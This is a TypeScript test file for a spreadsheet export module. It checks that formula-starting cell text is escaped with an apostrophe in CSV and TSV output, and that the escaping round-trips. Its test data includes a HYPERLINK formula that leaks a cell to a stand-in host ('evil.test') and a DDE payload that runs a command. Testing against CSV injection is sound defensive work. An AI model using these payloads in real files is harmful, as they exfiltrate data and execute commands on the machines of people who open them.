import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { fromSpreadsheetCell, isPlainNumber, spreadsheetCell, writeSpreadsheetText } from "./spreadsheet.ts";

const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
const DDE = "+cmd|' /C calc'!A0";

describe("spreadsheetCell", () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`],
    [DDE, `'${DDE}`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["- a bullet point", "'- a bullet point"],
    ["-3 compared to Q1", "'-3 compared to Q1"],
    ["+3", "'+3"],
    ["-1e5", "'-1e5"],
    ["-1,2", "'-1,2"],
    ["--3", "'--3"],
    ["-", "'-"],
  ])("writes %j with an apostrophe, as text", (text, cell) => {
    expect(spreadsheetCell(text)).toBe(cell);
  });

  it.each(["-3", "-1.5", "-2.5%", "-1,234.5", "2,424", "72.6%", "0", "Training ongoing", "2,424 ASB incidents compared to 2,767", "", "—", "↘ GREEN"])(
    "leaves %j as it is: a plain number, or text that cannot start a formula",
    (text) => {
      expect(spreadsheetCell(text)).toBe(text);
    },
  );

  it("counts as a plain number only an optional minus, digits grouped in threes, decimals and a percent sign", () => {
    expect(["-3", "-1.5", "-2.5%", "1,000", "-1,000,000.25%", "12345"].every(isPlainNumber)).toBe(true);
    expect(["+3", "-3 ", " -3", "-.5", "-1,00", "-3%%", "-3e2", "-0x1F", "-3-1", "-(3)", "-1,234,56"].some(isPlainNumber)).toBe(false);
  });

  it("is undone exactly by fromSpreadsheetCell, whatever the text, so a round trip through a file changes nothing", () => {
    for (const text of [HYPERLINK, DDE, "@x", "-3", "-3 x", "'=already quoted", "''-two", "'-3", "'plain", "it's", "\t", "'", "''", "x"]) {
      expect(fromSpreadsheetCell(spreadsheetCell(text)), text).toBe(text);
    }
  });

  it("leaves an apostrophe the app did not write: one that protects nothing", () => {
    expect(fromSpreadsheetCell("'-3")).toBe("'-3");
    expect(fromSpreadsheetCell("'hello")).toBe("'hello");
    expect(fromSpreadsheetCell("'=x")).toBe("=x");
  });
});

describe("writeSpreadsheetText", () => {
  it("writes CSV and TSV with every text cell made safe", () => {
    const csv = writeSpreadsheetText([{ name: "=cmd", figure: "-3", words: DDE }], { header: true });
    expect(parse(csv, { columns: true })).toEqual([{ name: "'=cmd", figure: "-3", words: `'${DDE}` }]);
    const tsv = writeSpreadsheetText([["@x", "-2.5%", "ok"]], { delimiter: "\t" });
    expect(tsv).toBe("'@x\t-2.5%\tok\n");
  });
});
